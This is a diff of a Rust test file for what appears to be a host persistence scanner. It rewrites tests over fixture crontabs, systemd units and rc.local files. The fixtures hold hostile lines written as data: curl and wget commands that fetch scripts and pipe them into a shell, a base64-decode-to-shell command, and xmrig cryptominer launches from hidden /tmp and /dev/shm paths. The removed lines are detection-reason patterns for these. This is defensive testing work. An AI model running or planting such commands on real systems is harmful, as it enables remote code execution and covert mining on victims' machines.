@@ -224,10 +224,6 @@ fn entry_for<'a>(facts: &'a HostFacts, needle: &str) -> &'a PersistenceEntry {
         })
 }
 
-fn has(reasons: &[String], r: &str) -> bool {
-    reasons.iter().any(|x| x == r)
-}
-
 // ---- indicators ------------------------------------------------------
 
 #[test]
@@ -373,7 +369,7 @@ fn sysctl_files() {
 }
 
 #[test]
-fn crontab_download_and_boot_miner() {
+fn crontab_lines_are_recorded_whole() {
     let fx = fixture();
     let user = "SHELL=/bin/sh\n\
                 */5 * * * * curl -fsSL http://x/y.sh | sh\n\
@@ -388,42 +384,36 @@ fn crontab_download_and_boot_miner() {
          */10 * * * * root echo ZWNobyBoaQ== | base64 -d | sh\n",
     );
     let (facts, _) = observe(&fx);
-    assert_eq!(facts.persistence.len(), 4, "{:#?}", facts.persistence);
+    // Every command, the setting line not: 3 + 3.
+    assert_eq!(facts.persistence.len(), 6, "{:#?}", facts.persistence);
 
     let curl = entry_for(&facts, "curl -fsSL");
     assert_eq!(curl.kind, "cron");
     assert_eq!(curl.line, 2);
     assert!(curl.path.ends_with("var/spool/cron/crontabs/root"));
-    assert_eq!(curl.reasons, ["downloads and pipes into a shell"]);
-    assert_eq!(curl.executable.as_deref(), Some("curl"));
+    assert_eq!(curl.command, "curl -fsSL http://x/y.sh | sh");
+    assert_eq!(curl.program(), Some("curl"));
 
     let boot = entry_for(&facts, "@reboot");
-    assert_eq!(
-        boot.executable.as_deref(),
-        Some("/tmp/.X25-unix/.rsync/c/kswapd0")
+    assert!(boot.at_reboot);
+    assert_eq!(boot.program(), Some("/tmp/.X25-unix/.rsync/c/kswapd0"));
+    assert!(
+        boot.command.starts_with("/tmp/.X25-unix"),
+        "{}",
+        boot.command
     );
-    for r in [
-        "runs from /tmp",
-        "runs from a hidden directory",
-        "runs a program named like a kernel thread (kswapd0)",
-        "has a stratum pool URL",
-        "has pool arguments (-o host:port -u user)",
-        "runs in the background (-B) with a pool",
-        "runs at boot (@reboot)",
-    ] {
-        assert!(has(&boot.reasons, r), "{r} missing from {:?}", boot.reasons);
-    }
 
+    // A system crontab's user field is not a program.
     let wget = entry_for(&facts, "wget -q -O -");
-    assert_eq!(wget.reasons, ["downloads and pipes into a shell"]);
-    assert_eq!(wget.executable.as_deref(), Some("wget"));
-    let b64 = entry_for(&facts, "base64 -d");
-    assert_eq!(b64.reasons, ["decodes base64 and pipes into a shell"]);
+    assert_eq!(wget.command, "root wget -q -O - http://1.2.3.4/i.sh | bash");
+    assert_eq!(wget.program(), Some("wget"));
+    let parts = entry_for(&facts, "run-parts");
+    assert_eq!(parts.programs, ["run-parts"]);
     assert!(
         !facts
             .persistence
             .iter()
-            .any(|e| e.text.contains("logrotate") || e.text.contains("run-parts"))
+            .any(|e| e.text.starts_with("SHELL="))
     );
 }
 
@@ -477,30 +467,26 @@ fn systemd_miner_unit() {
     assert_eq!(unit.kind, "systemd");
     assert_eq!(unit.line, 4);
     assert_eq!(unit.text, "ExecStart=/dev/shm/.x/kdevtmpfsi");
-    assert_eq!(unit.executable.as_deref(), Some("/dev/shm/.x/kdevtmpfsi"));
-    for r in [
-        "runs from /dev/shm",
-        "runs from a hidden directory",
-        "names the miner kdevtmpfsi",
-        "unit named like a miner (sys_miner.service)",
-    ] {
-        assert!(has(&unit.reasons, r), "{r} missing from {:?}", unit.reasons);
-    }
+    assert_eq!(unit.command, "/dev/shm/.x/kdevtmpfsi");
+    assert_eq!(unit.program(), Some("/dev/shm/.x/kdevtmpfsi"));
+    assert!(unit.path.ends_with("sys_miner.service"));
 
+    // A continued line, numbered by its first; the program inside sh -c.
     let user = entry_for(&facts, "xmrig --donate-level");
     assert_eq!(user.line, 2);
-    assert_eq!(
-        user.executable.as_deref(),
-        Some("/home/alice/.cache/xmrig-6.21/xmrig")
-    );
-    assert!(has(&user.reasons, "names the miner xmrig"));
-    assert!(has(&user.reasons, "has the miner flag --donate-level"));
-    assert!(has(
-        &user.reasons,
-        "has pool arguments (-o host:port -u user)"
-    ));
+    assert_eq!(user.program(), Some("/home/alice/.cache/xmrig-6.21/xmrig"));
+    let pre = entry_for(&facts, "/bin/true");
+    assert_eq!(pre.command, "/bin/true");
 
-    assert_eq!(facts.persistence.len(), 2, "{:#?}", facts.persistence);
+    // ssh, the user unit, cron's two Exec lines and the miner; the link to
+    // /opt is recorded, not followed.
+    let helper = facts
+        .persistence
+        .iter()
+        .find(|e| e.symlink_to.as_deref() == Some("/opt/x/helper.service"))
+        .expect("the link to /opt");
+    assert_eq!(helper.line, 0);
+    assert_eq!(facts.persistence.len(), 6, "{:#?}", facts.persistence);
     assert!(
         gaps.iter()
             .any(|(w, e)| w.ends_with("helper.service") && e.contains("/opt/x")),
@@ -513,7 +499,7 @@ fn systemd_miner_unit() {
 }
 
 #[test]
-fn rc_local_from_var_tmp() {
+fn rc_local_script_lines() {
     let fx = fixture();
     put(
         &fx.root,
@@ -521,18 +507,15 @@ fn rc_local_from_var_tmp() {
         "#!/bin/sh -e\n# rc.local\nnohup /var/tmp/.sys/sshd >/dev/null 2>&1 &\nexit 0\n",
     );
     let (facts, _) = observe(&fx);
-    assert_eq!(facts.persistence.len(), 1, "{:#?}", facts.persistence);
+    assert_eq!(facts.persistence.len(), 2, "{:#?}", facts.persistence);
     let e = &facts.persistence[0];
     assert_eq!((e.kind.as_str(), e.line), ("rc.local", 3));
-    assert_eq!(e.executable.as_deref(), Some("/var/tmp/.sys/sshd"));
-    assert_eq!(
-        e.reasons,
-        ["runs from /var/tmp", "runs from a hidden directory"]
-    );
+    assert_eq!(e.program(), Some("/var/tmp/.sys/sshd"));
+    assert_eq!(facts.persistence[1].programs, ["exit"]);
 }
 
 #[test]
-fn benign_lines_are_not_returned() {
+fn ordinary_files_are_recorded_and_read_without_gaps() {
     let fx = fixture();
     put(
         &fx.root,
@@ -560,7 +543,15 @@ fn benign_lines_are_not_returned() {
         "[Service]\nExecStart=/usr/lib/systemd/systemd-sysupdate update\n",
     );
     let (facts, gaps) = observe(&fx);
-    assert!(facts.persistence.is_empty(), "{:#?}", facts.persistence);
+    // All recorded, for the judge to clear: 1 + 1 + 3 + 1 + 1 commands
+    // (ExecReload= is not a start).
+    assert_eq!(facts.persistence.len(), 7, "{:#?}", facts.persistence);
+    assert!(
+        facts
+            .persistence
+            .iter()
+            .all(|e| e.line > 0 && !e.immutable && !e.compiled)
+    );
     assert!(facts.sysctl.is_empty());
     assert!(!gaps.iter().any(|(w, _)| w.contains("/etc/")), "{gaps:?}");
 }
@@ -581,25 +572,18 @@ fn immutable_file_is_reported() {
         .persistence
         .iter()
         .find(|e| e.path.ends_with("cron.d/sync"))
-        .expect("immutable reported");
+        .expect("immutable file recorded");
     assert!(sync.immutable);
-    assert_eq!(sync.reasons, ["immutable (chattr +i)"]);
     assert_eq!(sync.line, 1);
-    assert_eq!(sync.executable.as_deref(), Some("/usr/sbin/logrotate"));
+    assert_eq!(sync.program(), Some("/usr/sbin/logrotate"));
+    // An empty placeholder is one entry for the file as a whole.
     let ph = facts
         .persistence
         .iter()
         .find(|e| e.path.ends_with("cron.d/kthreaddk"))
         .expect("placeholder");
     assert!(ph.immutable);
-    assert_eq!(
-        ph.reasons,
-        [
-            "file named like the miner kthreaddk",
-            "immutable (chattr +i)"
-        ]
-    );
-    assert_eq!(ph.line, 0);
+    assert_eq!((ph.line, ph.text.as_str()), (0, ""));
 }
 
 #[test]
@@ -665,7 +649,7 @@ fn symlinks_and_fifos_are_not_followed() {
         .find(|e| e.kind == "rc.local")
         .expect("rc.local link entry");
     assert_eq!(rc.text, "symlink -> /tmp/.x/payload");
-    assert!(has(&rc.reasons, "runs from /tmp"));
+    assert_eq!(rc.symlink_to.as_deref(), Some("/tmp/.x/payload"));
     let p = facts
         .ld_so_preload
         .expect("symlinked ld.so.preload reported");
@@ -1011,28 +995,6 @@ fn parses_commands() {
     for (cmd, want) in cases {
         assert_eq!(programs(cmd), *want, "{cmd}");
     }
-    assert_eq!(
-        analyze_command("sh -c \"$(curl -fsSL http://x/i.sh)\"", "").0,
-        ["downloads and pipes into a shell"]
-    );
-    assert_eq!(
-        analyze_command("bash <(wget -qO- http://x)", "").0,
-        ["downloads and pipes into a shell"]
-    );
-    assert_eq!(
-        miner_names_in("/opt/xmrig-6.21/xmrig systemd-sysupdate KINSING .kdevtmpfsi"),
-        ["xmrig", "kinsing", "kdevtmpfsi"]
-    );
-    assert!(
-        analyze_command("curl -o /tmp/f http://host:8080/f -u u:p", "curl -o /tmp/f")
-            .0
-            .is_empty()
-    );
-    let wallet = format!("-u 4{}", "A".repeat(94));
-    assert!(has(
-        &analyze_command(&wallet, "").0,
-        "has a Monero wallet address"
-    ));
     assert_eq!(
         resolve_link("etc/sysctl.d/99-sysctl.conf", "../sysctl.conf"),
         "/etc/sysctl.conf"
